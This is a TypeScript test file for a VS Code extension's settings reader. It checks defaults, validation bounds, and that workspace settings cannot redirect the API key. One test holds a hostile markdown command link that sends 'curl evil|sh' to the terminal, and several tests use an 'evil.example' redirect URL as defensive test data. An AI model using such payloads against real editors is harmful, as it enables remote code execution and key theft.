import * as assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { DEFAULT_BASE_URL, DEFAULT_MODEL, DEFAULT_PROMPTS, DEFAULT_USAGE_BASE_URL, readConfig, type ConfigurationReader } from '../../src/config';

function reader(values: Record<string, unknown>, scopes: { globalBaseUrl?: string; workspaceBaseUrl?: string } = {}): ConfigurationReader {
  return {
    get: <T>(key: string) => values[key] as T | undefined,
    inspect: <T>(key: string) =>
      key === 'baseUrl'
        ? ({ defaultValue: DEFAULT_BASE_URL, globalValue: scopes.globalBaseUrl, workspaceValue: scopes.workspaceBaseUrl } as unknown as {
            defaultValue?: T;
            globalValue?: T;
          })
        : undefined,
  };
}

describe('readConfig', () => {
  it('gives the documented defaults when nothing is set', () => {
    const { config, problems } = readConfig(reader({}));
    assert.deepEqual(problems, []);
    assert.equal(config.baseUrl, DEFAULT_BASE_URL);
    assert.equal(config.model, DEFAULT_MODEL);
    assert.equal(config.completionWindow, 'auto');
    assert.equal(config.background, true);
    assert.equal(config.temperature, null);
    assert.deepEqual(config.prompts, DEFAULT_PROMPTS);
    assert.ok(Object.isFrozen(config));
  });

  it('reports each invalid setting by name and falls back to its default', () => {
    const { config, problems } = readConfig(
      reader({ temperature: 3, topP: -1, completionWindow: 'tomorrow', maxOutputTokens: 0, prompts: [{ label: '', instruction: 'x' }] }),
    );
    assert.deepEqual(problems.map((p) => p.setting).sort(), ['sail.completionWindow', 'sail.maxOutputTokens', 'sail.prompts', 'sail.temperature', 'sail.topP']);
    assert.match(problems.find((p) => p.setting === 'sail.temperature')?.message ?? '', /sail\.temperature = 3 is invalid/);
    assert.equal(config.temperature, null);
    assert.equal(config.completionWindow, 'auto');
    assert.deepEqual(config.prompts, DEFAULT_PROMPTS);
  });

  it('refuses values below the minimum too: a negative temperature or top_p, no output tokens', () => {
    const { config, problems } = readConfig(reader({ temperature: -0.5, topP: -0.1, maxOutputTokens: 0, maxFileSizeKB: 0 }));
    assert.deepEqual(problems.map((p) => p.setting).sort(), ['sail.maxFileSizeKB', 'sail.maxOutputTokens', 'sail.temperature', 'sail.topP']);
    assert.match(problems.find((p) => p.setting === 'sail.temperature')?.message ?? '', /sail\.temperature = -0\.5 is invalid/);
    assert.equal(config.temperature, null);
    assert.equal(config.topP, null);
    assert.equal(config.maxFileSizeKB, 512);
  });

  it('keeps the bounds themselves: 0 and 2 for temperature, 0 and 1 for top_p', () => {
    for (const [temperature, topP] of [
      [0, 0],
      [2, 1],
    ]) {
      const { config, problems } = readConfig(reader({ temperature, topP }));
      assert.deepEqual(problems, []);
      assert.equal(config.temperature, temperature);
      assert.equal(config.topP, topP);
    }
  });

  it('ignores a workspace value for the base URL: only the user can redirect the key', () => {
    const { config } = readConfig(reader({}, { workspaceBaseUrl: 'https://evil.example/v1' }));
    assert.equal(config.baseUrl, DEFAULT_BASE_URL);
    const user = readConfig(reader({}, { globalBaseUrl: 'http://127.0.0.1:8787/v1' }));
    assert.equal(user.config.baseUrl, 'http://127.0.0.1:8787/v1');
  });

  it('refuses plain http to a remote host, naming the setting', () => {
    const { config, problems } = readConfig(reader({}, { globalBaseUrl: 'http://api.example.com/v1' }));
    assert.equal(config.baseUrl, undefined);
    assert.equal(problems[0]?.setting, 'sail.baseUrl');
    assert.match(problems[0]?.message ?? '', /loopback/);
  });

  it('names an invalid setting without echoing a hostile value verbatim', () => {
    const hostile = '[Open Settings](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
    const { config, problems } = readConfig(reader({ openResult: hostile, temperature: -1 }));
    assert.equal(config.openResult, 'notify');
    const openResult = problems.find((p) => p.setting === 'sail.openResult');
    assert.ok(openResult);
    assert.match(openResult.message, /^sail\.openResult = /);
    assert.ok(!openResult.message.includes(hostile), openResult.message);
    assert.doesNotMatch(openResult.message, /\]\(command:/);
    assert.ok(openResult.message.length < 300, `${openResult.message.length} characters`);
  });
});

describe('readConfig: sail.usageBaseUrl, where the account figures come from', () => {
  function usage(scopes: { globalValue?: unknown; workspaceValue?: unknown; workspaceFolderValue?: unknown }): ConfigurationReader {
    return {
      // What VS Code's get() would answer: the most specific value wins there.
      get: <T>(key: string) => (key === 'usageBaseUrl' ? ((scopes.workspaceFolderValue ?? scopes.workspaceValue ?? scopes.globalValue) as T) : undefined),
      inspect: <T>(key: string) =>
        key === 'usageBaseUrl' ? ({ defaultValue: DEFAULT_USAGE_BASE_URL, ...scopes } as unknown as { defaultValue?: T; globalValue?: T }) : undefined,
    };
  }

  it("is Sail's Usage API when nothing is set", () => {
    const { config, problems } = readConfig(usage({}));
    assert.deepEqual(problems, []);
    assert.equal(config.usageBaseUrl, 'https://usage.sailresearch.com/v1');
  });

  it('ignores a workspace value: a workspace cannot send the key elsewhere for the account figures', () => {
    const hostile = readConfig(usage({ workspaceValue: 'https://evil.example/v1', workspaceFolderValue: 'https://evil.example/v1' }));
    assert.equal(hostile.config.usageBaseUrl, DEFAULT_USAGE_BASE_URL);
    assert.deepEqual(hostile.problems, []);
    const user = readConfig(usage({ globalValue: 'http://127.0.0.1:8787/v1/', workspaceValue: 'https://evil.example/v1' }));
    assert.equal(user.config.usageBaseUrl, 'http://127.0.0.1:8787/v1');
  });

  it('turns the account figures off when the user sets it empty, without calling that a problem', () => {
    for (const empty of ['', '   ']) {
      const { config, problems } = readConfig(usage({ globalValue: empty }));
      assert.equal(config.usageBaseUrl, undefined);
      assert.deepEqual(problems, []);
      assert.equal(config.baseUrl, DEFAULT_BASE_URL, 'the inference base URL is not affected');
    }
  });

  it('refuses plain http to a remote host, or a value that is not a string, naming the setting', () => {
    const remote = readConfig(usage({ globalValue: 'http://usage.example.com/v1' }));
    assert.equal(remote.config.usageBaseUrl, undefined);
    assert.deepEqual(
      remote.problems.map((p) => p.setting),
      ['sail.usageBaseUrl'],
    );
    assert.match(remote.problems[0].message, /^sail\.usageBaseUrl is invalid: .*loopback/);
    const notString = readConfig(usage({ globalValue: 42 }));
    assert.equal(notString.config.usageBaseUrl, undefined);
    assert.deepEqual(notString.problems, [{ setting: 'sail.usageBaseUrl', message: 'sail.usageBaseUrl is invalid: It must be a URL string.' }]);
  });
});
